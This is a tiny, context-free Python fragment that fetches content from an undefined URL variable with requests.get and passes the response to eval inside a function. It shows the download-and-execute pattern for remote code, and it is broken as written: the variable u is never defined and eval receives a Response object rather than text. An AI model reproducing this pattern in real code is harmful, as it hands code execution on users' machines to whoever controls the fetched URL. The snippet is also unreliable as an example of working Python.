import requests

g = requests.get(u)


def f(): eval(g)
